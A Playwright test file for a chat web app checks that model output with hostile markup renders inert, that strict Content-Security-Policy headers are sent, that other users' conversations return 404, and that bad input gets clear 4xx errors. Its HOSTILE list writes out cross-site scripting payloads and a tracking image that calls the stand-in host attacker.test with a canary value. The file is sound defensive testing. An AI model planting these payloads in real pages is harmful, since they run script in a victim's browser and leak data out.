import { expect, test } from '@playwright/test';
import { APP_URL, NO_PROVIDER_URL } from '../playwright.config';
import {
  ADMIN,
  assistantMessages,
  conversationIdFromUrl,
  ensureUser,
  originHeaders,
  send,
  signIn,
  specUser,
  userTexts,
} from './helpers';

const BOB = specUser('s03', 'Bob User');

const HOSTILE = [
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'img\'">',
  '<svg onload="window.__pwned = \'svg\'"></svg>',
  '![tracker](https://attacker.test/p.png?d=canary-123)',
  '[click me](javascript:window.__pwned="link")',
  '[data link](data:text/html,<b>x</b>)',
  '[safe link](https://example.com/docs)',
  '![by reference][pic]\n\n[pic]: https://attacker.test/ref.png',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '```js\nconst x = 1;\n```',
].join('\n\n');

test('S8/S9: model output with script, onerror, svg onload, javascript:/data: links and remote images renders inert in the chat (no dialog, zero attacker.test requests)', async ({
  page,
}) => {
  const dialogs: string[] = [];
  const attackerRequests: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => {
    if (r.url().includes('attacker.test')) attackerRequests.push(r.url());
  });
  await signIn(page, ADMIN);
  await page.goto('/');
  await send(page, `[[say:${HOSTILE}]]`);
  const answer = assistantMessages(page).last();
  await expect(answer.locator('table')).toBeVisible();
  await expect(answer.locator('pre code.hljs')).toBeVisible();
  // Both the inline and the reference-style image wait behind a click that names the domain.
  await expect(answer.getByRole('link', { name: /Open image .* from attacker\.test/ })).toHaveCount(2);
  // Raw HTML is shown as text, never as elements.
  await expect(answer).toContainText('<script>');
  expect(await answer.locator('script, img, svg, iframe').count()).toBe(0);
  // Bad schemes are gone; the safe link opens in a new tab without a referrer.
  await expect(answer.locator('a[href^="javascript"], a[href^="data"]')).toHaveCount(0);
  const safe = answer.getByRole('link', { name: 'safe link' });
  await expect(safe).toHaveAttribute('rel', /noopener/);
  await expect(safe).toHaveAttribute('rel', /noreferrer/);
  await answer.getByText('click me').click();

  await page.reload();
  await expect(assistantMessages(page).last().locator('table')).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(attackerRequests).toEqual([]);
});

test('S8/S9: pages carry a strict Content-Security-Policy (nonce scripts, no eval, img-src own images only, no framing)', async ({
  page,
}) => {
  await signIn(page, ADMIN);
  for (const path of ['/', '/sign-in']) {
    const res = await page.goto(path);
    const csp = res?.headers()['content-security-policy'] ?? '';
    expect(csp).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'/);
    expect(csp).not.toContain('unsafe-eval');
    expect(csp).toContain("img-src 'self' data: blob:");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(res?.headers()['x-content-type-options']).toBe('nosniff');
  }
  // The app still works under it: the composer is interactive.
  await page.goto('/');
  await send(page, 'CSP check');
  await expect(assistantMessages(page).last()).toContainText('You said: CSP check');
});

test("S16: another user's conversation is a 404 on every route and page", async ({ page, browser }) => {
  await signIn(page, ADMIN);
  await page.goto('/');
  await send(page, 'Private admin notes');
  await expect(assistantMessages(page).last()).toContainText('You said');
  const id = conversationIdFromUrl(page);
  await ensureUser(page.request, BOB);

  const ctx = await browser.newContext();
  await signIn(ctx, BOB);
  const bob = await ctx.newPage();
  const h = originHeaders();
  expect((await bob.request.get(`/api/conversations/${id}`)).status()).toBe(404);
  expect(
    (await bob.request.patch(`/api/conversations/${id}`, { data: { title: 'pwned' }, headers: h })).status(),
  ).toBe(404);
  expect((await bob.request.delete(`/api/conversations/${id}`, { headers: h })).status()).toBe(404);
  const cont = await bob.request.post('/api/chat', {
    data: { id, message: { id: 'bob-msg-1', role: 'user', parts: [{ type: 'text', text: 'let me in' }] } },
    headers: h,
  });
  expect(cont.status()).toBe(404);
  const list = await (await bob.request.get('/api/conversations')).json();
  expect(list.items.map((c: { id: string }) => c.id)).not.toContain(id);
  await bob.goto(`/c/${id}`);
  await expect(bob.getByRole('heading', { name: 'Not found' })).toBeVisible();
  await expect(bob.getByText('Private admin notes')).toHaveCount(0);
  await ctx.close();

  // The owner's conversation is untouched.
  const mine = await (await page.request.get(`/api/conversations/${id}`)).json();
  expect(mine.title).toBe('Private admin notes');
  expect(mine.messages).toHaveLength(2);
});

test('bad input gets a 4xx JSON error naming the problem, never a 500', async ({ page, playwright }) => {
  await signIn(page, ADMIN);
  const h = { ...originHeaders(), 'content-type': 'application/json' };
  const post = (data: string) => page.request.post('/api/chat', { data: Buffer.from(data), headers: h });

  const malformed = await post('{"id": "abcdefgh", ');
  expect(malformed.status()).toBe(400);
  expect((await malformed.json()).error.message).toContain('not valid JSON');

  const unknown = await post(
    JSON.stringify({
      id: 'abcdefgh',
      message: { id: 'm', role: 'user', parts: [{ type: 'text', text: 'x' }] },
      admin: true,
    }),
  );
  expect(unknown.status()).toBe(400);
  expect(JSON.stringify(await unknown.json())).toContain('admin');

  const wrongType = await post(JSON.stringify({ id: 12345678, message: 'hi' }));
  expect(wrongType.status()).toBe(400);
  const body = await wrongType.json();
  expect(body.error.code).toBe('bad_request');
  expect(Object.keys(body.error.fields)).toEqual(expect.arrayContaining(['id', 'message']));

  const huge = await post(
    JSON.stringify({
      id: 'abcdefgh',
      message: { id: 'm', role: 'user', parts: [{ type: 'text', text: 'x'.repeat(1_100_000) }] },
    }),
  );
  expect([400, 413]).toContain(huge.status());
  expect((await huge.json()).error.message).toMatch(/over|at most/);

  const rename = await page.request.patch('/api/conversations/nope-nope-nope', {
    data: { title: 42 },
    headers: h,
  });
  expect(rename.status()).toBe(400);

  const anon = await playwright.request.newContext();
  expect((await anon.post(`${APP_URL}/api/chat`, { data: {}, headers: h })).status()).toBe(401);
  await anon.dispose();

  // A cross-site POST is refused even with a valid session.
  const foreign = await page.request.post('/api/chat', {
    data: { id: 'abcdefgh', message: { id: 'm', role: 'user', parts: [{ type: 'text', text: 'x' }] } },
    headers: { origin: 'https://evil.test', 'content-type': 'application/json' },
  });
  expect(foreign.status()).toBe(403);
});

test('with no provider configured the app still runs and the chat says how to configure one', async ({
  browser,
}) => {
  const ctx = await browser.newContext({ baseURL: NO_PROVIDER_URL });
  await signIn(ctx, ADMIN, NO_PROVIDER_URL);
  const page = await ctx.newPage();
  await page.goto('/');
  await expect(page.locator('[data-no-provider]')).toContainText('No model provider is configured');
  const answered = page.waitForResponse(
    (r) => r.url().endsWith('/api/chat') && r.request().method() === 'POST',
  );
  await send(page, 'Is anyone there?');
  expect((await answered).status()).toBe(503);
  await page.reload();
  await expect(userTexts(page)).toHaveText(['Is anyone there?']);
  await ctx.close();
});
